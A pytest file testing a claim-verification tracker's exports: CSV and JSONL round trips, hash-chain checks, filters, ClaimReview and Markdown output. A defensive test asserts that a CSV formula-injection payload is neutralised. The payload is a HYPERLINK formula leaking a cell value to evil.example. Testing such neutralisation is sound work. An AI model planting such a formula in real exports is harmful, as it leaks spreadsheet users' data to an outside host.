"""Exports on SQLite and PostgreSQL: round trips, filters, one review per verdict, whole files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import select

from tests.export.logdata import DAY, HOUR, INJECTION, T0, Log, make_log
from tracker.errors import TrackerError, ValidationError
from tracker.export import csv as csv_export
from tracker.export.records import LOG_CLAIM_FIELDS, article_label, claim_record
from tracker.model import ClaimFilter, LogWindow, Status
from tracker.ops.claims import list_claims
from tracker.ops.export import ExportOptions, export_log, export_to_file
from tracker.store import Store
from tracker.store.log import entry_digest, review_entry
from tracker.store.models import GENESIS_HASH, Review

NOW = T0 + 10 * DAY


@pytest.fixture
def log(store: Store, seeds: Path) -> Log:
    return make_log(store, seeds)


def export(store: Store, fmt: str, **window: object) -> str:
    org = window.pop("org", None)
    out = io.StringIO(newline="")
    export_log(store, ExportOptions(fmt, LogWindow(**window), org=org), out, now=NOW)  # type: ignore[arg-type]
    return out.getvalue()


def stored_entries(store: Store) -> list:  # type: ignore[type-arg]
    with store.read() as s:
        return [review_entry(r) for r in s.scalars(select(Review).order_by(Review.seq))]


def test_csv_round_trip_holds_every_entry(store: Store, log: Log) -> None:
    text = export(store, "csv")
    assert text.endswith("\r\n") and "\r\n" in text  # RFC 4180 line ends
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == csv_export.HEADER
    claims = {c.id: c for c in list_claims(store, ClaimFilter())}
    entries = stored_entries(store)
    assert len(rows) - 1 == len(entries) == 6
    for cells, entry in zip(rows[1:], entries, strict=True):
        got = dict(zip(csv_export.HEADER, map(csv_export.restore, cells), strict=True))
        claim = claims[entry.claim_id]
        assert int(got["claim_id"]) == entry.claim_id
        assert got["claim"] == claim.content_text and got["source"] == claim.source_entity
        assert got["status"] == entry.to_status and got["previous_status"] == entry.from_status
        assert got["reviewer"] == entry.reviewer and got["note"] == entry.note
        assert tuple(got["evidence"].split()) == entry.evidence
        assert dt.datetime.fromisoformat(got["timestamp"]) == entry.created_at
        assert got["timestamp"].endswith("Z")
    assert [int(r[0]) for r in rows[1:]] == [1, 2, 3, 4, 5, 6]


def test_csv_neutralises_a_formula_in_a_note(store: Store, log: Log) -> None:
    rows = list(csv.reader(io.StringIO(export(store, "csv"), newline="")))
    note = rows[2][csv_export.HEADER.index("note")]
    assert note == "'" + INJECTION
    risky = tuple("=+-@\t\r")
    for row in rows[1:]:
        assert not any(cell.startswith(risky) for cell in row)


def test_jsonl_round_trip_holds_every_entry_and_its_chain(store: Store, log: Log) -> None:
    lines = export(store, "jsonl").splitlines()
    entries = stored_entries(store)
    assert len(lines) == len(entries) == 6
    claims = {c.id: claim_record(c) for c in list_claims(store, ClaimFilter())}
    prev = GENESIS_HASH
    for line, entry in zip(lines, entries, strict=True):
        record = json.loads(line)
        assert record["id"] == entry.id and record["claim_id"] == entry.claim_id
        assert (record["reviewer"], record["note"]) == (entry.reviewer, entry.note)
        assert (record["from_status"], record["to_status"]) == (entry.from_status, entry.to_status)
        assert tuple(record["evidence"]) == entry.evidence
        assert dt.datetime.fromisoformat(record["created_at"]) == entry.created_at
        assert (record["prev_hash"], record["hash"]) == (entry.prev_hash, entry.hash)
        # the embedded claim is claim_record's own values for its fields
        full = claims[entry.claim_id]
        assert record["claim"] == {k: full[k] for k in LOG_CLAIM_FIELDS}
        assert record["source"]["entity"] == full["source_entity"]
        # a reader can recompute the chain from the export alone
        assert record["prev_hash"] == prev
        assert record["hash"] == entry_digest(
            seq=record["seq"],
            claim_id=record["claim_id"],
            reviewer=record["reviewer"],
            from_status=record["from_status"],
            to_status=record["to_status"],
            note=record["note"],
            evidence=record["evidence"],
            created_at=dt.datetime.fromisoformat(record["created_at"]),
            claim_version=record["claim_version"],
            undoes=record["undoes"],
            prev_hash=prev,
        )
        prev = record["hash"]


def seqs(text: str) -> list[int]:
    return [json.loads(line)["seq"] for line in text.splitlines()]


def test_entry_filters(store: Store, log: Log) -> None:
    assert seqs(export(store, "jsonl", statuses=(Status.DISPUTED,))) == [2, 4]
    assert seqs(export(store, "jsonl", reviewer="ann")) == [1, 3, 6]
    assert seqs(export(store, "jsonl", since=T0 + HOUR)) == [2, 3, 4, 5, 6]
    assert seqs(export(store, "jsonl", until=T0 + DAY)) == [1, 2]
    assert seqs(export(store, "jsonl", since=T0 + DAY, until=T0 + 3 * DAY, reviewer="cy")) == [4]
    lines = export(store, "csv", statuses=(Status.VERIFIED, Status.UNREVIEWED)).splitlines()
    assert [line.split(",")[0] for line in lines[1:]] == ["1", "5", "6"]


def reviews(store: Store, **window: object) -> list[dict]:  # type: ignore[type-arg]
    data = json.loads(export(store, "claimreview", org="The Standard", **window))
    assert isinstance(data, list)
    return data


def test_claimreview_one_per_final_verdict_latest_wins(store: Store, log: Log) -> None:
    data = reviews(store)
    by_text = {r["claimReviewed"]: r for r in data}
    claims = {c.id: c for c in list_claims(store, ClaimFilter())}
    # a: verified then disputed -> disputed; b disputed; c reopened -> none; d verified
    assert len(data) == 3 and claims[log.c].content_text not in by_text
    assert by_text[claims[log.a].content_text]["reviewRating"]["alternateName"] == "Disputed"
    assert by_text[claims[log.b].content_text]["reviewRating"]["ratingValue"] == 1
    assert by_text[claims[log.d].content_text]["reviewRating"]["alternateName"] == "Verified"
    assert by_text[claims[log.a].content_text]["url"] == "https://a.example/1"
    assert "url" not in by_text[claims[log.b].content_text]  # no evidence, no url
    for review in data:
        assert review["author"] == {"@type": "Organization", "name": "The Standard"}


def test_claimreview_filters_and_window(store: Store, log: Log) -> None:
    assert len(reviews(store, statuses=(Status.VERIFIED,))) == 1
    # within the first two days, a's latest verdict is still "verified", c's "unverifiable"
    early = reviews(store, until=T0 + DAY + HOUR)
    assert sorted(r["reviewRating"]["alternateName"] for r in early) == [
        "Disputed",
        "Unverifiable",
        "Verified",
    ]
    with pytest.raises(ValidationError, match="verdicts"):
        reviews(store, statuses=(Status.UNREVIEWED,))
    with pytest.raises(ValidationError, match="--org"):
        export(store, "claimreview")


def test_markdown_groups_by_article_with_counts(store: Store, log: Log) -> None:
    text = export(store, "markdown", org="The Standard")
    assert text.startswith("# Verification log by The Standard\n")
    claims = {c.id: c for c in list_claims(store, ClaimFilter())}
    sections = text.split("\n## ")[1:]
    assert len(sections) == 2  # the four claims sit in two articles
    first = sections[0]
    assert "**2 of the article's" in first and "0 verified · 2 disputed · 0 unverifiable" in first
    assert f"### Claim {log.a}: disputed" in first and f"### Claim {log.b}: disputed" in first
    assert '=HYPERLINK("https\\://evil\\.example/?leak="&amp;A1,"click me")' in first
    assert "<https://a.example/1>, <https://b.example/2>" in first
    second = sections[1]
    assert f"### Claim {log.c}: reopened (unreviewed)" in second
    assert "1 verified · 0 disputed · 0 unverifiable · 1 reopened" in second
    assert article_label(None, claims[log.c].article_id and None) == ""
    assert "4 claims in 2 articles." in text
    last = log.marks[-1].entry.hash
    assert text.endswith(f"Verification log at export: 6 entries, last hash `{last}`.\n")


def test_export_reports_progress_per_batch(store: Store, log: Log) -> None:
    seen: list[tuple[str, int]] = []

    class Progress:
        def start(self, total: int) -> None:
            seen.append(("start", total))

        def advance(self, done: int) -> None:
            seen.append(("advance", done))

    export_log(store, ExportOptions("csv"), io.StringIO(), Progress())
    assert seen[0] == ("start", 6) and sum(n for k, n in seen[1:]) == 6
    seen.clear()
    export_log(store, ExportOptions("markdown"), io.StringIO(), Progress())
    assert seen[0] == ("start", 4) and sum(n for k, n in seen[1:]) == 4


def test_export_to_file_is_whole_or_absent(
    store: Store, log: Log, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "log.csv"
    summary = export_to_file(store, ExportOptions("csv"), target)
    assert (summary.written, summary.unit) == (6, "entries")
    assert target.read_bytes().startswith(b"entry,claim_id,")

    def broken(*args: object, **kwargs: object) -> int:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("tracker.ops.export.write_jsonl", broken)
    with pytest.raises(RuntimeError):
        export_to_file(store, ExportOptions("jsonl"), folder / "log.jsonl")
    assert sorted(p.name for p in folder.iterdir()) == ["log.csv"]
    with pytest.raises(TrackerError, match="cannot write"):
        export_to_file(store, ExportOptions("csv"), tmp_path / "no" / "such" / "log.csv")


def test_orphaned_is_not_a_decision(store: Store) -> None:
    with pytest.raises(ValidationError, match="orphaned"):
        export(store, "csv", statuses=(Status.ORPHANED,))
